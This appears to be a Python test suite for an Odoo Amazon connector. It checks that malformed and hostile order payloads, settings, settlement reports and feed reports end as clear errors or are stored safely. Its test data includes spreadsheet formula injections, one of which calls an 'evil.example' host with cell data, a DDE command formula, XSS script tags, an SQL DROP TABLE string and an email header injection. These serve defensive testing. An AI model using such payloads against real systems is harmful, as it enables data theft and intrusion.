"""Issue 9: a corpus of malformed and hostile inputs, each ending as a clear error on the record
and in the sync log, or stored safely; none stops the run or loses the good orders around it.

The corpus is data: ``ORDER_CASES`` (what Amazon's order payloads may carry, applied to the
raw JSON of a search page as the client hands it to the import), whole pages that fail, what a
person may type in the channel settings, settlement report files (read by
lib/amazon/settlement) and ``FEED_REPORT_CASES`` (what Amazon may answer about a finished
listings feed: getFeed, the report document and the report itself, read by the listings push).
Lightspeed's side is in test_hostile_lightspeed.py.
"""

import copy
import gzip
import json
from contextlib import closing
from dataclasses import dataclass, field
from unittest.mock import patch

from odoo.exceptions import ValidationError
from odoo.tests import tagged

from ..lib.amazon.settlement import parse_settlement_report
from ..lib.errors import PayloadError
from .amazon_import_common import AmazonImportCase
from .common import HostileCase, messages_about
from .listings_common import ListingsPush
from .routing_common import RoutingCase
from .simulators.amazon import line

SEARCH = r"^/orders/2026-01-01/orders$"
BIG = 100_000  # characters: an "oversized" field


@dataclass
class OrderCase(HostileCase):
    """One hostile order of ``lines``: ``hostile(raw)`` returns what the page carries instead
    of the order (a dict, or a list of values for duplicates and non-objects).

    outcome: "imported" (stored, with its sale order), "error" (stored in error, ``message``
    in its import error and the sync log), "logged" (no order can be stored: only a sync log
    error), "handled" (either imported or in error with a message; no crash).
    """

    lines: list = field(default_factory=lambda: [line("JBJ-M", 1, "59.00")])


def at(path, value):
    """A mutator setting ``raw[path[0]][path[1]]... = value`` (list indexes allowed)."""

    def mutate(raw):
        node = raw
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value
        return raw

    return mutate


def item(key, value, part=("product",)):
    return at(("orderItems", 0, *part, key), value)


def replaced_by(*values):
    return lambda raw: list(values)


def twice(raw):
    return [raw, copy.deepcopy(raw)]


def twice_then_cancelled(raw):
    later = copy.deepcopy(raw)
    later["lastUpdatedTime"] = "2026-01-01T00:09:00Z"
    later["fulfillment"]["fulfillmentStatus"] = "CANCELLED"
    return [raw, later]


def buyer_name(value):
    def mutate(raw):
        raw["buyer"]["buyerName"] = value
        raw["recipient"]["deliveryAddress"]["name"] = value
        return raw

    return mutate


def negative_item_price(raw):
    first = raw["orderItems"][0]
    first["product"]["price"]["unitPrice"]["amount"] = "-59.00"
    for part in first["proceeds"]["breakdowns"]:
        if part["type"] == "ITEM":
            part["subtotal"]["amount"] = "-59.00"
    return raw


# 100 kB that does not compress: an index entry of it would not fit in a PostgreSQL page
HUGE_NAME = "".join(chr(0x4E00 + (i * 7919) % 20000) for i in range(BIG))
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for refund")'
SCRIPT = '<script>alert("owned")</script><img src=x onerror=alert(1)>'
UNICODE = "Zoë Ñandú 山田太郎 🚀 \u202eevil\u202c Ελένη"


def partner_named(expected):
    def check(case, order):
        case.assertEqual(order.sale_order_id.partner_id.name, expected)
        case.assertEqual(order.buyer_name, expected)

    return check


def no_markup_in_messages(case, order):
    """Whatever the chatter shows about this order carries the name escaped, never as HTML."""
    sale = order.sale_order_id
    messages = messages_about(case.env, order, sale)
    for message in messages:
        case.assertNotIn("<script", str(message.body))
        case.assertNotIn("<img", str(message.body))
    case.assertEqual(order.buyer_name, SCRIPT)  # stored as typed: plain text, shown escaped


ORDER_CASES = [
    # --- CSV injection, markup, unicode, oversized text: stored as plain text
    OrderCase(
        "formula_in_buyer_name", buyer_name(FORMULA), "imported", check=partner_named(FORMULA)
    ),
    OrderCase("script_in_buyer_name", buyer_name(SCRIPT), "imported", check=no_markup_in_messages),
    OrderCase(
        "markup_in_buyer_note",
        at(("recipient", "deliveryPreference"), {"addressInstruction": SCRIPT}),
        "imported",
        check=lambda case, order: case.assertEqual(order.buyer_note, SCRIPT),
    ),
    OrderCase(
        "unicode_and_bidi_names", buyer_name(UNICODE), "imported", check=partner_named(UNICODE)
    ),
    OrderCase(
        "name_of_100_kB",
        buyer_name(HUGE_NAME),
        "imported",
        check=lambda case, order: case.assertEqual(
            order.sale_order_id.partner_id.name, HUGE_NAME[:254] + "\u2026"
        ),
    ),
    OrderCase(
        "title_of_100_kB_with_markup",
        item("title", "<b>" * (BIG // 3)),
        "imported",
        check=lambda case, order: case.assertEqual(len(order.line_ids.title), 2000),
    ),
    OrderCase(
        "nul_byte_in_buyer_name",
        buyer_name("Ann\x00Smith"),
        "imported",
        check=partner_named("AnnSmith"),
    ),
    OrderCase(
        "header_injection_in_email",
        at(("buyer", "buyerEmail"), "x@marketplace.amazon.com\r\nBcc: victim@example.com"),
        "handled",
    ),
    OrderCase("formula_as_sku", item("sellerSku", "=cmd|' /C calc'!A0"), "error", "=cmd|"),
    OrderCase("sku_of_100_kB", item("sellerSku", "S" * BIG), "error", "no product is bound"),
    # --- identifiers
    OrderCase("order_id_of_100_kB", at(("orderId",), "1" * BIG), "logged", "order id"),
    OrderCase("nul_byte_in_order_id", at(("orderId",), "111-\x00-222"), "logged", "order id"),
    OrderCase("order_id_not_a_string", at(("orderId",), 12345), "logged", "orderId"),
    OrderCase(
        "order_id_missing",
        lambda raw: {k: v for k, v in raw.items() if k != "orderId"},
        "logged",
        "orderId",
    ),
    # --- money and quantities
    OrderCase("negative_item_price", negative_item_price, "error", "negative"),
    OrderCase(
        "negative_grand_total",
        at(("proceeds", "grandTotal", "amount"), "-59.00"),
        "error",
        "negative",
    ),
    OrderCase(
        "money_as_a_number",
        item("unitPrice", {"amount": 59.0, "currencyCode": "USD"}, ("product", "price")),
        "error",
        "not an amount of money",
    ),
    OrderCase(
        "money_nan",
        at(("proceeds", "grandTotal", "amount"), "NaN"),
        "error",
        "not an amount of money",
    ),
    OrderCase(
        "money_beyond_any_order",
        at(("proceeds", "grandTotal", "amount"), "1" + "0" * 30),
        "error",
        "amount",
    ),
    OrderCase(
        "quantity_of_a_trillion",
        at(("orderItems", 0, "quantityOrdered"), 10**12),
        "error",
        "quantity",
    ),
    OrderCase(
        "quantity_as_a_string",
        at(("orderItems", 0, "quantityOrdered"), "2"),
        "error",
        "not a whole number",
    ),
    OrderCase(
        "quantity_fractional",
        at(("orderItems", 0, "quantityOrdered"), 1.5),
        "error",
        "not a whole number",
    ),
    OrderCase(
        "unknown_currency", at(("proceeds", "grandTotal", "currencyCode"), "ZZZ"), "error", "ZZZ"
    ),
    # --- structure and types
    OrderCase("items_not_a_list", at(("orderItems",), "oops"), "error", ""),
    OrderCase("buyer_not_an_object", at(("buyer",), ["not", "an", "object"]), "handled"),
    OrderCase(
        "status_of_wrong_type",
        at(("fulfillment", "fulfillmentStatus"), 42),
        "error",
        "unexpected status",
    ),
    OrderCase("date_not_a_date", at(("lastUpdatedTime",), "yesterday"), "error", "ISO 8601"),
    OrderCase(
        "date_in_year_9999",
        at(("lastUpdatedTime",), "9999-12-31T23:59:59Z"),
        "handled",
        check=lambda case, order: case.assertLess(
            case.account.import_cursor.year, 9999, "a future date must not move the cursor past now"
        ),
    ),
    OrderCase(
        "unknown_extra_fields",
        lambda raw: dict(raw, __proto__={"admin": True}, extra=[{}] * 3),
        "imported",
    ),
    OrderCase("order_replaced_by_a_string", replaced_by("garbage"), "logged", "not a JSON object"),
    OrderCase("order_replaced_by_null", replaced_by(None), "logged", "not a JSON object"),
    # --- duplicates in one page
    OrderCase(
        "same_order_twice_in_a_page",
        twice,
        "imported",
        check=lambda case, order: case.assertEqual(len(case.orders(name=order.name)), 1),
    ),
    OrderCase(
        "same_order_twice_newer_cancelled",
        twice_then_cancelled,
        "handled",
        check=lambda case, order: case.assertEqual(order.status, "canceled"),
    ),
]


def _replace_amount(rows, value):
    """The report with the amount of its first order row replaced by ``value``."""
    header = rows[0].split("\t")
    column = header.index("amount")
    changed = list(rows)
    cells = changed[2].split("\t")
    cells[column] = value
    changed[2] = "\t".join(cells)
    return "\n".join(changed).encode("utf-8")


class HostilePages:
    """Wraps ``client.search_orders``: each page's raw orders pass through the case mutators."""

    def __init__(self, client, mutators):
        self.original = client.search_orders
        self.mutators = mutators  # order id -> mutator
        client.search_orders = self

    def __call__(self, *args, **kwargs):
        page = self.original(*args, **kwargs)
        carried = []
        for raw in page.orders:
            mutate = self.mutators.get(raw.get("orderId"))
            value = mutate(copy.deepcopy(raw)) if mutate else raw
            carried.extend(value if isinstance(value, list) else [value])
        page.orders[:] = carried
        return page


@tagged("post_install", "-at_install")
class TestHostileInputs(AmazonImportCase):
    def test_hostile_orders_end_as_clear_errors_or_safe_storage(self):
        good = [self.sim.add_order([line("JBJ-S", 1, "59.00")]) for _ in range(3)]
        by_case = {case.name: self.sim.add_order(case.lines) for case in ORDER_CASES}
        mutators = {by_case[case.name].order_id: case.hostile for case in ORDER_CASES}
        client = self.new_client()
        HostilePages(client, mutators)
        mails_before = self.env["mail.mail"].search_count([])
        with self.served():
            run = self.account._import_orders(client=client)
        self.assertTrue(run.complete, run.summary())
        self.assertFalse(run.stopped)
        for order in good:
            self.assertEqual(self.orders(name=order.order_id).import_state, "imported")
        errors = self.logs("error")
        for case in ORDER_CASES:
            source = by_case[case.name]
            with self.subTest(case=case.name):
                self.assert_case(case, source, errors)
        self.assertEqual(self.env["mail.mail"].search_count([]), mails_before)
        # the next run reads the same window again: nothing new, nothing lost, nothing crashes
        with self.served():
            again = self.account._import_orders(client=client)
        self.assertFalse(again.stopped, again.summary())
        self.assertEqual(again.counts["created"], 0)

    def assert_case(self, case, source, errors):
        order = self.orders(name=source.order_id)
        if case.outcome == "logged":
            mentions = errors.filtered(
                lambda x: (
                    case.message.lower() in x.message.lower()
                    and (not x.reference or len(x.reference) < 200)
                )
            )
            self.assertTrue(mentions, "no sync log error says %r" % case.message)
            return
        self.assertEqual(len(order), 1)
        if case.outcome == "imported":
            self.assertEqual(order.import_state, "imported", order.import_error)
            self.assertTrue(order.sale_order_id)
        elif case.outcome == "error":
            self.assertEqual(order.import_state, "error")
            self.assertIn(case.message, order.import_error)
            self.assertFalse(order.sale_order_id)
            self.assertTrue(errors.filtered(lambda x: x.reference == order.name))
        else:  # handled: one or the other, never silently half-done
            if order.import_state != "imported":
                self.assertTrue(order.import_error)
        if case.check:
            case.check(self, order)

    # ------------------------------------------------------------ whole pages

    def test_broken_pages_stop_the_run_clearly_and_the_next_run_reads_them(self):
        for kind in ("truncated_json", "server_error", "unavailable", "timeout"):
            with self.subTest(kind=kind):
                # just past Amazon's two-minute margin: inside the next window
                self.sim.add_order([line("JBJ-M")], created=self.sim.clock.now() - 130)
                self.sim.faults.add(kind, path=SEARCH, times=3)
                before = len(self.orders())
                run = self.run_import()
                self.assertTrue(run.stopped, kind)
                self.assertEqual(len(self.orders()), before)
                self.assertTrue(self.logs("error") | self.logs("warning"))
                self.sim.faults.clear()
                run = self.run_import()
                self.assertTrue(run.complete, run.summary())
                self.assertEqual(len(self.orders()), before + 1)

    def test_a_page_of_the_wrong_shape_is_a_clear_error(self):
        self.sim.add_order([line("JBJ-M")])
        self.sim.faults.add(
            "malformed", path=SEARCH, times=3, payload="<html><body>Gateway</body></html>"
        )
        run = self.run_import()
        self.assertTrue(run.stopped)
        self.assertFalse(self.orders())
        self.sim.faults.clear()
        self.assertTrue(self.run_import().complete)
        self.assertEqual(len(self.orders()), 1)

    # ------------------------------------------------------------ settings

    def test_hostile_settings_are_refused_with_a_message(self):
        cases = {
            "order_prefix": "P" * BIG,
            "pii_retention_days": 31,
            "queue_notify_emails": 'not-an-address, =HYPERLINK("x")',
            "marketplace_ids": "'; DROP TABLE amazon_order; --",
        }
        for name, value in cases.items():
            with (
                self.subTest(setting=name),
                self.assertRaises(ValidationError),
                self.env.cr.savepoint(),
            ):
                self.account.write({name: value})
        # a formula as prefix is only text: the orders are named with it
        self.account.order_prefix = "=1+"
        order = self.sim.add_order([line("JBJ-M")])
        self.run_import()
        self.assertEqual(
            self.orders(name=order.order_id).sale_order_id.name, "=1+" + order.order_id
        )

    # ------------------------------------------------------------ settlement reports

    def test_hostile_settlement_documents_end_on_their_report(self):
        """Each hostile document ends as that report's error (or is read, its odd rows kept
        as text); a good report after them is still read and the run is not stopped."""
        patcher = patch.object(
            type(self.env["amazon.account"]), "_settlement_client", lambda a: self.new_client()
        )
        patcher.start()
        self.addCleanup(patcher.stop)
        self.account.invoice_payment_term_id = self.env.ref("account.account_payment_term_30days")
        order = self.sim.add_order([line("JBJ-S", 1, "59.00")], status="Shipped")
        self.run_import()
        template = self.sim.generate_settlement_report()
        good = self.sim.documents[template.document_id].content
        self.sim.reports.pop(template.report_id)
        rows = good.decode("utf-8").splitlines()
        cases = {  # name: (document, outcome, message)
            "empty": (b"", "error", "empty"),
            "binary": (bytes(range(256)) * 40, "error", "lacks the column"),
            "html_page": (b"<html><script>alert(1)</script></html>", "error", "lacks the column"),
            "json": (b'{"payload": []}', "error", "lacks the column"),
            "header_only": (rows[0].encode(), "error", "no summary row"),
            "cut_in_a_row": (good[: len(good) * 2 // 3], "handled", ""),
            "latin_1": (good.replace(b"Amazon", "Amazonía".encode("latin-1")), "handled", ""),
            "nul_bytes": (good.replace(b"Amazon", b"Ama\x00zon"), "handled", ""),
            "formula_as_order_id": (
                good.replace(order.order_id.encode(), b'=HYPERLINK("http://evil.example")'),
                "handled",
                "",
            ),
            "amount_1e400": (_replace_amount(rows, "1e400"), "handled", ""),
            "field_of_100_kB": (good.replace(b"Amazon", b"A" * BIG), "handled", ""),
        }
        settlement_id = rows[1].split("\t")[0].encode()
        reports = {}
        for number, (name, (content, _outcome, _message)) in enumerate(cases.items()):
            self.sim.clock.advance(60)
            report = self.sim.generate_settlement_report()
            unique = b"77000000%03d" % number  # each document its own settlement
            self.sim.documents[report.document_id].content = content.replace(settlement_id, unique)
            reports[name] = report
        self.sim.clock.advance(3600)
        last = self.sim.generate_settlement_report()  # a good one after them is still read
        self.sim.clock.advance(60)
        with self.served():
            run = self.account._read_settlements()
        self.assertFalse(run.stopped, run.summary())
        Settlement = self.env["amazon.settlement"]
        for name, (_content, outcome, message) in cases.items():
            with self.subTest(report=name):
                settlement = Settlement.search([("report_id", "=", reports[name].report_id)])
                self.assertEqual(len(settlement), 1)
                if outcome == "error":
                    self.assertEqual(settlement.state, "error")
                    self.assertIn(message, settlement.error_message)
                elif settlement.state == "error":  # handled either way, but said clearly
                    self.assertTrue(settlement.error_message)
        latest = Settlement.search([("report_id", "=", last.report_id)])
        self.assertTrue(latest)
        self.assertNotEqual(latest.state, "error", latest.error_message)

    def test_hostile_settlement_reports_are_typed_errors(self):
        header = "settlement-id\tsettlement-start-date\tsettlement-end-date\tdeposit-date\t"
        cases = {
            "empty": "",
            "only_spaces": "   \n\t\n",
            "binary": bytes(range(256)) * 10,
            "html": "<html><script>alert(1)</script></html>",
            "header_only": header,
            "csv_not_tsv": "settlement-id,total-amount\n1,2\n",
            "json": json.dumps({"payload": []}),
        }
        for name, content in cases.items():
            with self.subTest(report=name), self.assertRaises(PayloadError):
                parse_settlement_report(content)


# --------------------------------------------------------------------- listings feed reports

GET_FEED = r"^/feeds/2021-06-30/feeds/[^/]+$"
FEED_DOCUMENT = r"^/feeds/2021-06-30/documents/[^/]+$"
REPORT = r"^/_sim/documents/"
TEN_MB = 10 * 1024 * 1024


class FeedReportCase(HostileCase):
    """One hostile answer about a finished JSON listings feed of 12 SKUs (messages 1 to 12).

    ``hostile``: ``(path, payload)`` pairs, each a ``malformed`` fault of the Amazon simulator
    for one answer: raw bytes, JSON, or a function of the real answer returning either.
    outcome: "refused" (the feed ends Refused with ``message``, every SKU in it shows it and
    goes again in a new feed; a sync log error says it), "read" (the report is read: the feed
    is done, its SKUs got their verdict; ``check`` says which).
    """


def report_is(content):
    return ((REPORT, content),)


def report_edited(change):
    """The real report, changed in place by ``change(report)``."""

    def mutate(report):
        change(report)
        return report

    return ((REPORT, mutate),)


def summary_count(value):
    def change(report):
        report["summary"]["messagesProcessed"] = value

    return report_edited(change)


def summary_count_written(text):
    """A count written as ``text`` in the JSON (1e400: what json.dumps cannot write)."""

    def mutate(report):
        report["summary"]["messagesProcessed"] = "@COUNT@"
        return json.dumps(report).replace('"@COUNT@"', text).encode()

    return ((REPORT, mutate),)


def issues(*found):
    def change(report):
        report["issues"] = list(found)

    return report_edited(change)


def feed_answer(**values):
    """getFeed's answer with these keys (None: removed)."""

    def mutate(answer):
        answer.update(values)
        return {key: value for key, value in answer.items() if value is not None}

    return ((GET_FEED, mutate),)


def document_answer(**values):
    def mutate(answer):
        answer.update(values)
        return {key: value for key, value in answer.items() if value is not None}

    return ((FEED_DOCUMENT, mutate),)


def gzipped(report):
    return gzip.compress(json.dumps(report).encode())


def error_on(message_id, **values):
    return dict({"messageId": message_id, "code": "90220", "severity": "ERROR"}, **values)


def refused_skus(*message_ids):
    """Amazon's verdict: the SKUs of these messages refused (said in the sync log; they go
    again at once, so the run's patch clears their error), the others accepted."""

    def check(case, feed, offers):
        accepted = 12 - len(message_ids)
        case.assertEqual((feed.accepted_count, feed.error_count), (accepted, len(message_ids)))
        refused = {n for n, offer in offers.items() if case.refusals_of(offer)}
        case.assertEqual(refused, set(message_ids))

    return check


def foreign_messages_said(case, feed, offers):
    refused_skus()(case, feed, offers)
    warning = case.listings_logs("warning").filtered(lambda x: x.reference == feed.feed_id)
    case.assertIn("(0, 999)", warning.message)


def bounded_and_clean(case, feed, offers):
    refused_skus(1)(case, feed, offers)
    said = case.refusals_of(offers[1]).message
    case.assertLess(len(said), 2200, "a 10 MB message is not copied onto the binding")
    case.assertNotIn("\x00", said)
    case.assertNotIn("\x1b", said)


FEED_REPORT_CASES = [
    # --- the report document
    FeedReportCase("not_json", report_is(b"<html><body>Busy</body></html>"), "refused", "JSON"),
    FeedReportCase("json_list", report_is(b"[]"), "refused", "not a JSON object"),
    FeedReportCase("json_string", report_is(b'"DONE"'), "refused", "not a JSON object"),
    FeedReportCase("json_null", report_is(b"null"), "refused", "not a JSON object"),
    FeedReportCase(
        "without_summary", report_edited(lambda r: r.pop("summary")), "refused", "no summary"
    ),
    FeedReportCase(
        "without_header", report_edited(lambda r: r.pop("header")), "read", check=refused_skus()
    ),
    FeedReportCase(
        "issues_not_a_list",
        report_edited(lambda r: r.__setitem__("issues", "all fine")),
        "refused",
        "not a list",
    ),
    FeedReportCase(
        "issues_as_an_object",
        report_edited(lambda r: r.__setitem__("issues", error_on(1))),
        "refused",
        "not a list",
    ),
    # an issue that cannot be placed on one message is about the whole feed: nothing applied
    FeedReportCase("issue_not_an_object", issues("oops"), "refused", "Unreadable issue"),
    FeedReportCase(
        "issue_with_unreadable_message_id",
        issues(error_on("NOT-A-NUMBER", message="Unknown message")),
        "refused",
        "Unknown message",
    ),
    # --- issues about SKUs and messages
    FeedReportCase(
        "issues_for_skus_never_sent",
        issues(
            error_on(999, sku="NOT-OURS", message="Unknown SKU"),
            error_on(0, sku="NOT-OURS-EITHER", message="Unknown SKU"),
        ),
        "read",
        check=foreign_messages_said,
    ),
    FeedReportCase(
        "message_id_as_text",
        issues(error_on("3", message="Price too low")),
        "read",
        check=refused_skus(3),
    ),
    FeedReportCase(
        "sku_and_message_with_control_characters",
        issues(error_on(1, sku="JBJ\x00-M\x1b[2J", message="Bad\x00 value\x1b[31m!", code="9\x00")),
        "read",
        check=bounded_and_clean,
    ),
    FeedReportCase(
        "report_of_10_MB",
        issues(error_on(1, message="A" * TEN_MB)),
        "read",
        check=bounded_and_clean,
    ),
    # --- absurd counts
    FeedReportCase("count_not_a_number", summary_count("NaN"), "refused", "not a count"),
    FeedReportCase("count_1e400", summary_count_written("1e400"), "refused", "not a count"),
    FeedReportCase("count_negative", summary_count(-12), "refused", "not a count"),
    FeedReportCase("count_beyond_any_feed", summary_count(10**30), "refused", "not a count"),
    # --- compression
    FeedReportCase(
        "gzipped_without_saying_so",
        ((REPORT, gzipped),),
        "read",
        check=refused_skus(),
    ),
    FeedReportCase(
        "said_gzip_but_plain",
        document_answer(compressionAlgorithm="GZIP"),
        "refused",
        "could not be unzipped",
    ),
    FeedReportCase(
        "gzip_cut_in_half",
        ((REPORT, lambda report: gzipped(report)[:40]),),
        "refused",
        "could not be unzipped",
    ),
    # --- getFeed and getFeedDocument
    FeedReportCase("feed_fatal", feed_answer(processingStatus="FATAL"), "refused", "(FATAL)"),
    FeedReportCase(
        "feed_cancelled_without_report",
        feed_answer(processingStatus="CANCELLED", resultFeedDocumentId=None),
        "refused",
        "(CANCELLED)",
    ),
    FeedReportCase(
        "feed_done_without_report",
        feed_answer(resultFeedDocumentId=None),
        "refused",
        "without a processing report",
    ),
    FeedReportCase("feed_answer_without_feed_id", feed_answer(feedId=None), "refused", "no feedId"),
    FeedReportCase(
        "document_url_404",
        ((FEED_DOCUMENT, lambda answer: dict(answer, url=answer["url"] + "-gone")),),
        "refused",
        "404",
    ),
    FeedReportCase("document_without_url", document_answer(url=None), "refused", "no download URL"),
]


@tagged("post_install", "-at_install")
class TestHostileFeedReports(ListingsPush, RoutingCase):
    """Each hostile answer about a finished feed ends on that feed and its SKUs; the push run is
    never stopped by it, and a refused feed's SKUs go again."""

    def setUp(self):
        super().setUp()
        self.open_listings_push()
        self.amazon.listings_feed_threshold = 5
        self.push()
        self.feed = self.env["amazon.listings.feed"].search([("account_id", "=", self.amazon.id)])
        self.assertEqual((len(self.feed), self.feed.message_count), (1, 12))
        self.by_message = {o.feed_message_id: o for o in self.feed.offer_ids}
        self.amazon_sim.clock.advance(120)  # Amazon has processed it

    def test_hostile_feed_answers_end_on_the_feed(self):
        for case in FEED_REPORT_CASES:
            with self.subTest(case=case.name), closing(self.env.cr.savepoint()):
                for path, payload in case.hostile:
                    self.amazon_sim.faults.add("malformed", path=path, payload=payload)
                try:
                    self.assert_feed_case(case)
                finally:
                    self.amazon_sim.faults.clear()
                    self.env.flush_all()
            self.env.invalidate_all()
        # the feed as Amazon really answered: read, every SKU accepted
        run = self.push(advance=60)
        self.assertEqual((self.feed.state, run.counts["accepted"]), ("done", 12), run.summary())

    def refusals_of(self, offer):
        """The sync log errors saying Amazon refused this binding's SKU."""
        return self.listings_logs("error").filtered(
            lambda x: x.res_model == "amazon.offer" and x.res_id == offer.id
        )

    def assert_feed_case(self, case):
        errors_before = self.listings_logs("error")
        run = self.push(advance=60)  # past getFeedDocument's quota of one call per 45 s
        self.assertFalse(run.stopped, run.summary())
        self.assertEqual(run.counts["waiting"], 0, "a finished feed is never waited for again")
        feed = self.feed
        if case.outcome == "read":
            self.assertEqual(feed.state, "done", feed.result_message)
            case.check(self, feed, self.by_message)
            return
        self.assertEqual(feed.state, "fatal")
        self.assertIn(case.message, feed.result_message)
        for offer in self.by_message.values():
            self.assertIn(case.message, offer.last_push_error)
        logged = (self.listings_logs("error") - errors_before).filtered(
            lambda x: x.reference == feed.feed_id
        )
        self.assertIn(case.message, logged.message)
        again = self.env["amazon.listings.feed"].search(
            [("account_id", "=", self.amazon.id), ("id", "!=", feed.id)]
        )
        self.assertEqual((again.state, again.message_count), ("submitted", 12), "sent again")
